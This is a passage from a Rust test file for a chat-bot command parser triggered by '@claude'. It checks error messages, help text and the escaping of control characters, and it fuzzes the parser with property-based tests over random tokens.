    let error = err("@claude start acme/@channel", top());
    assert_eq!(
        error,
        CommandError::BadRepo {
            value: "".into(),
            reason: InvalidReason::Empty
        }
    );
    let error = err("@claude @channel", top());
    assert_eq!(first_code_span(&error.to_string()), "@channel");
    let error = err("@claude start acme/api@x@here", top());
    assert_eq!(
        error,
        bad_branch("x@here", InvalidReason::BadChar { ch: '@' })
    );
    assert_eq!(first_code_span(&error.to_string()), "x@here");
}

#[test]
fn long_values_are_truncated_on_char_boundaries() {
    let word = "\u{e9}".repeat(500);
    let error = err(&format!("@claude {word}"), top());
    assert_eq!(error, CommandError::UnknownCommand { word: word.clone() });
    let span = first_code_span(&error.to_string()).to_owned();
    assert_eq!(span.chars().count(), 60);
    assert!(span.ends_with('\u{2026}'));

    // Escapes are never cut in half.
    let word = "\u{1}".repeat(100);
    let span = first_code_span(&CommandError::UnknownCommand { word }.to_string()).to_owned();
    assert!(span.chars().count() <= 60);
    assert!(span.ends_with("\\u{1}\u{2026}"), "{span}");

    // Exactly 60 characters fit without truncation.
    let word = "x".repeat(60);
    let span = first_code_span(&CommandError::UnknownCommand { word: word.clone() }.to_string())
        .to_owned();
    assert_eq!(span, word);
}

#[test]
fn help_text_lists_commands_for_the_context() {
    let top_help = help_text(TRIGGER, false);
    assert!(
        top_help.contains("`@claude start org/repo[@branch] [--worktree[=name]] [--profile=name]`")
    );
    assert!(top_help.contains("`@claude orchestrate org/repo[@branch] [--profile=name]`"));
    assert!(top_help.contains("`@claude stop <id-prefix>`"));
    assert!(top_help.contains("`@claude status [all]`"));
    assert!(top_help.contains("`@claude join <id-prefix>`"));
    assert!(!top_help.contains("`@claude invite @user`"), "thread only");
    assert!(top_help.contains("`@claude help`"));
    assert!(!top_help.contains("`!compact`"));
    assert!(!top_help.contains("`@claude compact`"));
    assert_clean(&top_help);

    let thread_help = help_text(TRIGGER, true);
    for word in [
        "compact",
        "clear",
        "restart",
        "context",
        "status [all]",
        "help",
    ] {
        assert!(thread_help.contains(&format!("`!{word}`")), "{word}");
        assert!(thread_help.contains(&format!("`@claude {word}`")), "{word}");
    }
    assert!(thread_help.contains("`!stop [<id-prefix>]`"));
    assert!(thread_help.contains("`!invite @user`") && thread_help.contains("`!kick @user`"));
    assert!(thread_help.contains("`!join [<id-prefix>]`"));
    assert!(thread_help.contains("`!start org/repo[@branch] [--worktree[=name]] [--profile=name]`"));
    assert_clean(&thread_help);

    // Hostile trigger configuration cannot break out of the code spans.
    let weird = help_text("@a`b\n", true);
    assert_clean(&weird);
    assert!(weird.contains("`@a\\u{60}b status [all]`"));
}

// ---------------------------------------------------------------------------
// Properties
// ---------------------------------------------------------------------------

fn contexts() -> [ParseContext<'static>; 4] {
    [top(), top_org(), thread(), thread_org()]
}

/// Checks the invariants that hold for every parse result.
fn check_result(text: &str, ctx: &ParseContext<'_>) -> Result<(), TestCaseError> {
    match parse(text, ctx) {
        None => {}
        Some(Err(error)) => {
            let reply = error.reply(TRIGGER);
            prop_assert!(!reply.trim().is_empty());
            prop_assert!(
                reply.chars().all(|c| c == '\n' || !c.is_control()),
                "{reply:?}"
            );
            prop_assert!(!error.to_string().chars().any(char::is_control));
        }
        Some(Ok(command)) => {
            if let Command::Start { repo, .. } | Command::Orchestrate { repo, .. } = &command {
                let reparsed: Result<RepoRef, _> = repo.to_string().parse();
                prop_assert_eq!(reparsed.as_ref(), Ok(repo));
                prop_assert!(repo
                    .to_string()
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || "._-/@".contains(c)));
            }
            // The canonical text parses back to the same command.
            let canonical = format!("{TRIGGER} {command}");
            prop_assert_eq!(parse(&canonical, ctx), Some(Ok(command)));
        }
    }
    Ok(())
}

fn random_case(word: &'static str) -> impl Strategy<Value = String> {
    proptest::collection::vec(any::<bool>(), word.len()).prop_map(move |upper| {
        word.chars()
            .zip(upper)
            .map(|(c, up)| if up { c.to_ascii_uppercase() } else { c })
            .collect()
    })
}

fn org_strategy() -> impl Strategy<Value = String> {
    "[A-Za-z0-9]{1,10}(-[A-Za-z0-9]{1,8}){0,3}"
}

fn repo_name_strategy() -> impl Strategy<Value = String> {
    "[A-Za-z0-9_][A-Za-z0-9._-]{0,40}"
        .prop_filter("valid repo name", |s| RepoName::parse(s).is_ok())
}

fn branch_strategy() -> impl Strategy<Value = String> {
    "[A-Za-z0-9_][A-Za-z0-9_-]{0,12}(/[A-Za-z0-9_][A-Za-z0-9._-]{0,12}){0,3}"
        .prop_filter("valid branch name", |s| BranchName::parse(s).is_ok())
}

fn repo_ref_strategy() -> impl Strategy<Value = String> {
    (
        org_strategy(),
        repo_name_strategy(),
        proptest::option::of(branch_strategy()),
    )
        .prop_map(|(org, repo, branch)| match branch {
            Some(branch) => format!("{org}/{repo}@{branch}"),
            None => format!("{org}/{repo}"),
        })
}

fn token_strategy() -> impl Strategy<Value = String> {
    prop_oneof![
        prop_oneof![
            random_case("start"),
            random_case("orchestrate"),
            random_case("stop"),
            random_case("status"),
            random_case("help"),
            random_case("compact"),
            random_case("clear"),
            random_case("restart"),
            random_case("context"),
        ],
        repo_ref_strategy(),
        repo_name_strategy(),
        Just("--worktree".to_owned()),
        "--worktree=[A-Za-z0-9_.-]{0,12}",
        "\u{2014}worktree(=[a-z]{1,4})?",
        "--[a-z]{0,6}(=.{0,4})?",
        "[0-9a-fA-F-]{0,40}",
        "[ -~]{0,16}",
        "[@/.:,!`$;|&'\"-]{1,4}",
        "\\PC{0,8}",
        ".{0,8}",
    ]
}

fn separator_strategy() -> impl Strategy<Value = &'static str> {
    prop_oneof![
        Just(" "),
        Just("  "),
        Just("\t"),
        Just("\n"),
        Just(" \r\n "),
        Just("\u{a0}"),
    ]
}

fn prefix_strategy() -> impl Strategy<Value = &'static str> {
    prop_oneof![
        Just("@claude "),
        Just("@CLAUDE\n"),
        Just("@claude: "),
        Just("@Claude,\t"),
        Just("@claude"),
        Just("!"),
        Just("! "),
        Just(""),
        Just("   @claude  "),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn parse_never_panics_on_arbitrary_strings(text in any::<String>()) {
        for ctx in contexts() {
            check_result(&text, &ctx)?;
        }
    }

    #[test]
    fn parse_never_panics_on_printable_unicode(text in "\\PC{0,60}") {
        for ctx in contexts() {
            check_result(&text, &ctx)?;
        }
    }

    #[test]
    fn parse_never_panics_on_trigger_plus_tokens(
        prefix in prefix_strategy(),
        tokens in proptest::collection::vec((token_strategy(), separator_strategy()), 0..6),
    ) {
        let mut text = prefix.to_owned();
        for (token, sep) in &tokens {
            text.push_str(token);
            text.push_str(sep);
        }
        for ctx in contexts() {
            check_result(&text, &ctx)?;
        }
    }

    #[test]
    fn valid_start_round_trips(
        repo_text in repo_ref_strategy(),
        worktree in proptest::option::of(proptest::option::of("[A-Za-z0-9_][A-Za-z0-9_-]{0,20}")),
        flag_first in any::<bool>(),
    ) {
        let flag = match &worktree {
            None => String::new(),
            Some(None) => "--worktree".to_owned(),
            Some(Some(name)) => format!("--worktree={name}"),
        };
        let text = if flag_first {
            format!("@claude start {flag} {repo_text}")
        } else {
            format!("@claude start {repo_text} {flag}")
        };
        let (repo, parsed_worktree) = match parse(&text, &top()) {
            Some(Ok(Command::Start { repo, worktree, profile: None })) => (repo, worktree),
            other => return Err(TestCaseError::fail(format!("{text:?} gave {other:?}"))),
        };
        prop_assert_eq!(repo.to_string(), repo_text.clone());
        prop_assert_eq!(repo_text.parse::<RepoRef>(), Ok(repo.clone()));
        let expected_worktree = worktree.map(|name| match name {
            None => WorktreeChoice::Auto,
            Some(name) => WorktreeChoice::Named(WorktreeName::parse(&name).expect("valid")),
        });
        prop_assert_eq!(&parsed_worktree, &expected_worktree);
        let command = Command::Start { repo, worktree: parsed_worktree, profile: None };
        prop_assert_eq!(parse(&format!("@claude {command}"), &top()), Some(Ok(command)));
    }

    #[test]
    fn quoted_values_stay_short_and_clean(word in "\\PC{1,200}|.{1,200}") {
        let error = CommandError::UnknownCommand { word };
        let shown = error.to_string();
        prop_assert!(!shown.chars().any(char::is_control));
        let span = first_code_span(&shown);
        prop_assert!(span.chars().count() <= 60, "{span:?}");
        prop_assert!(!error.reply("@claude").chars().any(|c| c != '\n' && c.is_control()));
    }

    #[test]
    fn id_prefixes_accept_lowercased_uuid_prefixes(uuid in "[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}", len in 4usize..=36) {
        let prefix: String = uuid.chars().take(len).collect();
        let parsed = IdPrefix::parse(&prefix);
        let lower = prefix.to_ascii_lowercase();
        prop_assert_eq!(parsed.as_ref().map(IdPrefix::as_str), Ok(lower.as_str()));
        prop_assert!(parsed.map(|p| p.matches(&uuid)).unwrap_or(false));
    }
}
